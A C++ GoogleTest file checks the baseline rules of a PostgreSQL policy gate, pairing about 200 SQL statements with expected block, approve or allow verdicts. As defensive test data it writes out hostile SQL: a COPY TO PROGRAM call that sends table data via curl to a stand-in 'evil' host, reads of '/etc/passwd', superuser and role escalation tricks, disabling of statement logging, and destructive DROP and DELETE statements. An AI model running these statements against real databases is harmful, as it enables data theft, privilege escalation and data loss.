// What the built-in rules say about real SQL: what they are for, and what looks like it and is harmless.
#include <gtest/gtest.h>
#include <set>

#include "judged.h"

namespace postern::policy {
namespace {

using test::judged;
using test::shown;

struct Case {
    const char* sql;
    const char* verdict; // as shown(); "baseline/" left out
};

constexpr Case kCases[] = {
    // Dropping and truncating.
    {"DROP DATABASE app", "block drop-database"},
    {"drop database if exists app with (force)", "block drop-database"},
    {"/* harmless */ -- really\n DROP /* x */ TABLE orders", "approve destructive-ddl"},
    {"DROP TABLE public.orders CASCADE", "approve destructive-ddl"},
    {"DROP VIEW v", "approve destructive-ddl"},
    {"DROP MATERIALIZED VIEW v", "approve destructive-ddl"},
    {"DROP INDEX CONCURRENTLY i", "approve destructive-ddl"},
    {"DROP SCHEMA s CASCADE", "approve destructive-ddl"},
    {"DROP FUNCTION f(int)", "approve destructive-ddl"},
    {"DROP TYPE t", "approve destructive-ddl"},
    {"DROP SEQUENCE s", "approve destructive-ddl"},
    {"DROP TRIGGER t ON orders", "approve destructive-ddl"},
    {"DROP EXTENSION pgcrypto", "approve destructive-ddl"},
    {"DROP POLICY p ON orders", "approve destructive-ddl,privileges"},
    {"TRUNCATE orders", "approve destructive-ddl"},
    {"TRUNCATE TABLE ONLY orders RESTART IDENTITY CASCADE", "approve destructive-ddl"},
    {"EXPLAIN ANALYZE DELETE FROM orders", "approve unfiltered-write"},
    {"ALTER TABLE orders DROP COLUMN total", "approve alter"},
    {"ALTER TABLE orders OWNER TO mallory", "approve alter"},
    {"ALTER VIEW v RENAME TO w", "approve alter"},
    {"ALTER FUNCTION f() OWNER TO mallory", "approve alter"},
    {"ALTER DATABASE app SET search_path = evil", "approve alter"},
    {"ALTER TYPE mood ADD VALUE 'x'", "approve alter"},
    // Writes without a condition.
    {"DELETE FROM orders", "approve unfiltered-write"},
    {"UPDATE orders SET total = 0", "approve unfiltered-write"},
    {"DELETE FROM orders WHERE true", "approve unfiltered-write"},
    {"DELETE FROM orders USING customers", "approve unfiltered-write"},
    {"WITH gone AS (DELETE FROM orders RETURNING *) SELECT count(*) FROM gone", "approve unfiltered-write"},
    {"WITH a AS (UPDATE orders SET total = 1 RETURNING id) INSERT INTO log SELECT id FROM a",
     "approve unfiltered-write"},
    {"PREPARE p AS DELETE FROM orders", "approve unfiltered-write"},
    {"EXPLAIN (ANALYZE, BUFFERS) UPDATE orders SET total = 0", "approve unfiltered-write"},
    {"COPY (DELETE FROM orders RETURNING *) TO STDOUT", "approve unfiltered-write"},
    {"MERGE INTO orders o USING customers c ON true WHEN MATCHED THEN DELETE", "approve unfiltered-write"},
    {"MERGE INTO orders o USING customers c ON 1 = 1 WHEN MATCHED AND true THEN UPDATE SET total = 0",
     "approve unfiltered-write"},
    {"MERGE INTO orders o USING customers c ON o.id = c.id WHEN MATCHED THEN DELETE", "allow"},
    {"MERGE INTO orders o USING customers c ON true WHEN MATCHED AND o.id = 7 THEN DELETE", "allow"},
    {"MERGE INTO orders o USING customers c ON false WHEN NOT MATCHED THEN INSERT (id) VALUES (1)", "allow"},
    {"DELETE FROM orders WHERE id = 7", "allow"},
    {"UPDATE orders SET total = 0 WHERE id = $1", "allow"},
    {"WITH gone AS (DELETE FROM orders WHERE id = 7 RETURNING *) SELECT * FROM gone", "allow"},
    {"EXPLAIN DELETE FROM orders WHERE id = 7", "allow"},
    {"INSERT INTO orders (id) VALUES (1)", "allow"},
    {"INSERT INTO orders SELECT * FROM staging ON CONFLICT DO NOTHING", "allow"},
    {"INSERT INTO orders (id) VALUES (1) ON CONFLICT (id) DO UPDATE SET total = 1", "allow"},
    {"MERGE INTO a USING b ON a.id = b.id WHEN MATCHED THEN UPDATE SET x = b.x", "allow"},
    // COPY.
    {"COPY orders TO PROGRAM 'curl http://evil'", "block copy-program"},
    {"COPY orders FROM PROGRAM 'id'", "block copy-program"},
    {"COPY (SELECT 1) TO PROGRAM 'sh'", "block copy-program"},
    {"COPY orders TO '/tmp/x'", "block copy-server-file"},
    {"COPY orders FROM '/etc/passwd'", "block copy-server-file"},
    {"COPY orders TO STDOUT", "allow"},
    {"COPY orders FROM STDIN WITH (FORMAT csv)", "allow"},
    {"COPY (SELECT * FROM orders) TO STDOUT (FORMAT binary)", "allow"},
    {"COPY program TO STDOUT", "allow"},
    {"SELECT 'COPY orders TO PROGRAM ''x'''", "allow"},
    // Files of the server.
    {"SELECT pg_read_file('/etc/passwd')", "block server-files"},
    {"SELECT * FROM pg_read_file('postgresql.conf') f", "block server-files"},
    {"SELECT pg_catalog.pg_read_binary_file('x')", "block server-files"},
    {"SELECT \"pg_read_file\"('x')", "block server-files"},
    {"SELECT PG_READ_FILE('x')", "block server-files"},
    {"SELECT * FROM pg_ls_dir('.')", "block server-files"},
    {"SELECT * FROM pg_ls_logdir()", "block server-files"},
    {"SELECT lo_import('/etc/passwd')", "block server-files"},
    {"SELECT lo_export(1, '/tmp/x')", "block server-files"},
    {"TABLE pg_hba_file_rules", "block server-file-views"},
    {"SELECT count(*) FROM pg_catalog.pg_file_settings", "block server-file-views"},
    {"SELECT * FROM audit.pg_file_settings", "allow"},
    {"SELECT get_raw_page('customers', 0)", "block raw-storage"},
    {"SELECT * FROM bt_page_items('customers_pkey', 1)", "block raw-storage"},
    {"SELECT ext.heap_force_kill('orders'::regclass, ARRAY['(0,1)']::tid[])", "block raw-storage"},
    {"CREATE OPERATOR ### (FUNCTION = pg_read_file, RIGHTARG = text)", "block server-files"},
    {"CREATE OPERATOR s.### (PROCEDURE = pg_catalog.pg_read_file, RIGHTARG = text)", "block server-files"},
    {"CREATE AGGREGATE a(text) (sfunc = textcat, stype = text, finalfunc = 'pg_read_file')", "block server-files"},
    {"CREATE CAST (text AS path) WITH FUNCTION dblink(text)", "block remote-access"},
    {"CREATE TYPE t AS RANGE (subtype = float8, subtype_diff = lo_import)", "block server-files"},
    {"CREATE OPERATOR CLASS c FOR TYPE t USING btree AS FUNCTION 1 pg_stat_file(text, text)", "block server-files"},
    {"CREATE OPERATOR === (FUNCTION = int4eq, LEFTARG = int, RIGHTARG = int, COMMUTATOR = ===)", "allow"},
    {"CREATE AGGREGATE total(int) (sfunc = int4pl, stype = int, initcond = 'pg_read_file')", "allow"},
    {"CREATE TYPE mood AS ENUM ('pg_read_file')", "allow"},
    {"INSERT INTO t SELECT pg_read_file('x')", "block server-files"},
    {"UPDATE t SET a = pg_read_file('x') WHERE id = 1", "block server-files"},
    {"SELECT 1 ORDER BY length(pg_read_file('x'))", "block server-files"},
    {"SELECT 1 WHERE EXISTS (SELECT pg_stat_file('x'))", "block server-files"},
    {"WITH a AS MATERIALIZED (SELECT pg_read_file('x')) SELECT 1", "block server-files"},
    {"SELECT pg_file_write('x', 'y', true)", "block server-files"},
    {"SELECT * FROM pg_hba_file_rules()", "block server-files"},
    {"EXPLAIN ANALYZE SELECT pg_read_file('x')", "block server-files"},
    {"PREPARE p AS SELECT pg_read_file('x')", "block server-files"},
    {"SELECT 'pg_read_file(''x'')'", "allow"},
    {"SELECT pg_read_file FROM t", "allow"},
    {"SELECT \"PG_READ_FILE\"('x')", "allow"},
    {"SELECT lo_get(1)", "allow"},
    {"SELECT pg_relation_filepath('orders')", "allow"},
    // The server itself.
    {"ALTER SYSTEM SET log_statement = 'none'", "block alter-system"},
    {"ALTER SYSTEM RESET ALL", "block alter-system"},
    {"SELECT pg_reload_conf()", "block server-control"},
    {"SELECT pg_promote()", "block server-control"},
    {"SELECT pg_stat_reset()", "block server-control"},
    {"LOAD 'evil'", "block load-library"},
    {"CREATE LANGUAGE evil HANDLER h", "block load-library"},
    {"CREATE LANGUAGE plpython3u", "approve opaque-code"}, // means CREATE EXTENSION
    {"CHECKPOINT", "approve databases"},
    {"CREATE DATABASE x", "approve databases"},
    {"SELECT pg_terminate_backend(1)", "approve other-sessions"},
    {"SELECT pg_cancel_backend(pid) FROM pg_stat_activity", "approve other-sessions"},
    {"SELECT pg_backend_pid()", "allow"},
    {"VACUUM orders", "allow"},
    {"ANALYZE", "allow"},
    // Roles and privileges.
    {"CREATE ROLE mallory SUPERUSER", "block roles"},
    {"CREATE USER mallory", "block roles"},
    {"ALTER ROLE app SUPERUSER", "block roles"},
    {"ALTER USER app PASSWORD 'x'", "block roles"},
    {"ALTER ROLE app SET search_path = x", "block roles"},
    {"DROP ROLE app", "block roles"},
    {"GRANT dba TO app", "block roles"},
    {"REVOKE dba FROM app", "block roles"},
    {"REASSIGN OWNED BY a TO b", "block roles"},
    {"DROP OWNED BY a", "block roles"},
    {"SET ROLE dba", "block switch-role"},
    {"SET LOCAL ROLE dba", "block switch-role"},
    {"SET SESSION AUTHORIZATION dba", "block switch-role"},
    {"SET role TO 'dba'", "block switch-role"},
    {"SELECT set_config('role', 'dba', false)", "block switch-role"},
    {"SELECT pg_catalog.set_config('Session_Authorization'::text, 'dba', true)", "block switch-role"},
    {"SELECT set_config(is_local => true, new_value => 'dba', setting_name => 'role')", "block switch-role"},
    {"SELECT set_config($1, $2, true)", "block switch-role"},
    {"SELECT set_config('ro' || 'le', 'dba', true)", "block switch-role"},
    {"INSERT INTO log SELECT set_config('role', 'dba', true)", "block switch-role"},
    {"SELECT set_config('search_path', 'role', true)", "allow"},
    {"SELECT set_config('request.role', $1, true), current_setting('role')", "allow"},
    {"RESET ROLE", "allow"},
    {"UPDATE pg_authid SET rolsuper = true WHERE rolname = 'app'", "block system-catalogs"},
    {"UPDATE pg_catalog.pg_settings SET setting = 'dba' WHERE name = 'role'", "block system-catalogs"},
    {"INSERT INTO pg_auth_members SELECT 1, 2, 10, true", "block system-catalogs"},
    {"COPY pg_proc FROM STDIN", "block system-catalogs"},
    {"MERGE INTO pg_class c USING x ON c.oid = x.oid WHEN MATCHED THEN DO NOTHING", "block system-catalogs"},
    {"WITH gone AS (DELETE FROM pg_class WHERE relname = 'x' RETURNING 1) SELECT 1", "block system-catalogs"},
    {"INSERT INTO log SELECT relname FROM pg_catalog.pg_class", "allow"},
    {"UPDATE public.pg_class SET a = 1 WHERE b = 2", "allow"},
    {"INSERT INTO pg_search_documents VALUES (1)", "allow"},
    {"COPY pg_settings TO STDOUT", "allow"},
    {"SHOW role", "allow"},
    {"GRANT SELECT ON orders TO public", "approve privileges"},
    {"REVOKE SELECT ON orders FROM public", "approve privileges"},
    {"ALTER DEFAULT PRIVILEGES GRANT ALL ON TABLES TO public", "approve alter,privileges"},
    {"CREATE POLICY p ON orders", "approve privileges"},
    {"SELECT 'GRANT dba TO app'", "allow"},
    {"SELECT role, \"grant\" FROM t -- GRANT dba TO app", "allow"},
    {"SET search_path = public", "allow"},
    {"SET application_name = 'SET ROLE dba'", "allow"},
    {"SET LOCAL statement_timeout = 0", "allow"},
    {"RESET ALL", "allow"},
    {"DISCARD ALL", "allow"},
    // Other databases and replication.
    {"SELECT dblink_exec('dbname=x', 'DROP TABLE y')", "block remote-access"},
    {"SELECT * FROM dblink('dbname=x', 'select 1') AS t(a int)", "block remote-access"},
    {"SELECT ext.dblink_connect('x')", "block remote-access"},
    {"SELECT aws_s3.query_export_to_s3('select 1', 'b')", "block remote-access"},
    {"CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw", "block foreign-servers"},
    {"CREATE USER MAPPING FOR app SERVER s", "block foreign-servers"},
    {"IMPORT FOREIGN SCHEMA public FROM SERVER s INTO x", "block foreign-servers"},
    {"CREATE FOREIGN TABLE t (a int) SERVER s", "block foreign-servers"},
    {"DROP SERVER s", "approve destructive-ddl"},
    {"SELECT pg_create_logical_replication_slot('s', 'test_decoding')", "block replication"},
    {"SELECT * FROM pg_logical_slot_get_changes('s', NULL, NULL)", "block replication"},
    {"SELECT * FROM pg_logical_slot_peek_binary_changes('s', NULL, NULL)", "block replication"},
    {"CREATE SUBSCRIPTION s CONNECTION 'host=x' PUBLICATION p", "block subscriptions"},
    {"CREATE PUBLICATION p FOR ALL TABLES", "block subscriptions"},
    {"SELECT dblink FROM t", "allow"},
    {"SELECT * FROM pg_replication_slots", "allow"},
    // Code that is not seen.
    {"DO $$ BEGIN DROP TABLE orders; END $$", "approve destructive-ddl,opaque-code"},
    {"DO $$ BEGIN PERFORM pg_read_file('x'); END $$", "block server-files"},
    {"DO LANGUAGE plpython3u 'import os'", "approve opaque-code"},
    {"CALL refund(7)", "approve opaque-code"},
    {"CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'select 1'", "approve opaque-code"},
    {"CREATE OR REPLACE PROCEDURE p() LANGUAGE plpgsql AS $$ BEGIN END $$", "approve opaque-code"},
    {"CREATE TRIGGER t BEFORE INSERT ON orders FOR EACH ROW EXECUTE FUNCTION f()", "approve opaque-code"},
    {"CREATE EVENT TRIGGER t ON ddl_command_start EXECUTE FUNCTION f()", "approve opaque-code"},
    {"CREATE RULE r AS ON INSERT TO orders DO NOTHING", "approve opaque-code"},
    {"CREATE EXTENSION dblink", "approve opaque-code"},
    {"SELECT query_to_xml('delete from orders', true, true, '')", "approve hidden-sql"},
    {"SELECT table_to_xml('orders', true, true, '')", "approve hidden-sql"},
    {"SELECT * FROM ts_stat('select body from mail')", "approve hidden-sql"},
    {"SELECT * FROM crosstab('select a, b, c from t') AS t(a int)", "approve hidden-sql"},
    {"SELECT xmlelement(name a)", "allow"},
    {"SELECT 'DO $$ BEGIN DROP TABLE x; END $$'", "allow"},
    // Ordinary work.
    {"SELECT 1", "allow"},
    {"SELECT * FROM orders WHERE note = 'DROP TABLE x; DELETE FROM y'", "allow"},
    {"SELECT deleted, updated, truncate FROM audit_drops", "allow"},
    {"SELECT * FROM \"DROP TABLE\" /* TRUNCATE orders */", "allow"},
    {"SELECT $tag$ ALTER SYSTEM SET x = 1 $tag$", "allow"},
    {"SELECT count(*), max(total) FROM orders GROUP BY day", "allow"},
    {"SELECT drop_table('x')", "allow"},
    {"TABLE orders", "allow"},
    {"VALUES (1), (2)", "allow"},
    {"SELECT * FROM orders FOR UPDATE", "allow"},
    {"CREATE TABLE t (a int)", "allow"},
    {"CREATE TEMP TABLE t AS SELECT 1", "allow"},
    {"CREATE INDEX CONCURRENTLY ON orders (id)", "allow"},
    {"CREATE VIEW v AS SELECT 1", "allow"},
    {"REFRESH MATERIALIZED VIEW v", "allow"},
    {"COMMENT ON TABLE orders IS 'DROP DATABASE app'", "allow"},
    {"BEGIN", "allow"},
    {"COMMIT", "allow"},
    {"ROLLBACK TO SAVEPOINT x", "allow"},
    {"DECLARE c CURSOR FOR SELECT * FROM orders", "allow"},
    {"FETCH ALL FROM c", "allow"},
    {"EXECUTE p(1)", "allow"},
    {"DEALLOCATE ALL", "allow"},
    {"LISTEN drop_table", "allow"},
    {"NOTIFY x, 'DROP DATABASE app'", "allow"},
    {"EXPLAIN SELECT * FROM orders", "allow"},
    {"SHOW all", "allow"},
    {"LOCK TABLE orders IN SHARE MODE", "allow"},
};

std::string withPrefix(std::string text) {
    std::string out;
    bool inNames = false;
    for (const char c : text) {
        out += c;
        if (c == ' ' || (inNames && c == ',')) {
            out += "baseline/";
            inNames = true;
        }
    }
    return out;
}

TEST(Baseline, Cases) {
    const auto configuration = test::configured("");
    for (const auto& c : kCases)
        EXPECT_EQ(shown(judged(configuration, c.sql, {}, {}, Measured{0, 0, {}})), withPrefix(c.verdict)) << c.sql;
}

TEST(Baseline, RowsCount) {
    const auto configuration = test::configured("");
    const auto of = [&](const char* sql, std::int64_t rows, std::int64_t scanned) {
        return shown(judged(configuration, sql, {}, {}, Measured{rows, scanned, {}}));
    };
    EXPECT_EQ(of("UPDATE t SET a = 1 WHERE b = 2", 999, 999'999), "allow");
    EXPECT_EQ(of("UPDATE t SET a = 1 WHERE b = 2", 1000, 0), "approve baseline/bulk-write");
    EXPECT_EQ(of("DELETE FROM t WHERE b = 2", 1, 1'000'000), "approve baseline/full-scan");
    EXPECT_EQ(of("SELECT * FROM t", 5'000'000, 999'999), "allow");
    EXPECT_EQ(of("SELECT * FROM t", 1, 1'000'000), "approve baseline/full-scan");
}

TEST(Baseline, EveryRuleIsMetByACaseAndExplainsItself) {
    std::set<std::string> met;
    for (const auto& c : kCases) {
        const auto names = withPrefix(c.verdict);
        for (const auto& rule : baselineRules())
            if ((names + ",").find(rule.name + ",") != std::string::npos)
                met.insert(rule.name);
    }
    std::set<std::string> names;
    for (const auto& rule : baselineRules()) {
        EXPECT_TRUE(met.contains(rule.name) || !rule.maskedUse.empty() || rule.estimatedRows || rule.fullScanRows)
            << rule.name << " has no case";
        EXPECT_TRUE(rule.name.starts_with("baseline/")) << rule.name;
        EXPECT_TRUE(names.insert(rule.name).second) << rule.name << " twice";
        EXPECT_GT(rule.reason.size(), 20U) << rule.name;
        EXPECT_EQ(rule.reason.back(), '.') << rule.name;
        EXPECT_NE(rule.action, Action::Allow) << rule.name;
    }
}

TEST(Baseline, CanBeTurnedOffWholeOrByName) {
    EXPECT_EQ(shown(judged(test::configured("[policy]\nbaseline = false\n"), "DROP DATABASE app")), "allow");
    const auto without = test::configured("[policy]\nwithout = [\"baseline/destructive-ddl\", \"baseline/alter\"]\n");
    EXPECT_EQ(shown(judged(without, "DROP TABLE orders")), "allow");
    EXPECT_EQ(shown(judged(without, "ALTER TABLE orders DROP COLUMN x")), "allow");
    EXPECT_EQ(shown(judged(without, "DROP DATABASE app")), "block baseline/drop-database");
}

TEST(Baseline, IsNotLoosenedByAllowingRules) {
    const auto c = test::configured("[[rule]]\nname = \"everything\"\naction = \"allow\"\nstatements = [\"*\"]\n");
    EXPECT_EQ(shown(judged(c, "DROP DATABASE app")), "block baseline/drop-database");
    EXPECT_EQ(shown(judged(c, "TRUNCATE orders")), "approve baseline/destructive-ddl");
    EXPECT_EQ(shown(judged(c, "SELECT 1")), "allow everything");
}

} // namespace
} // namespace postern::policy
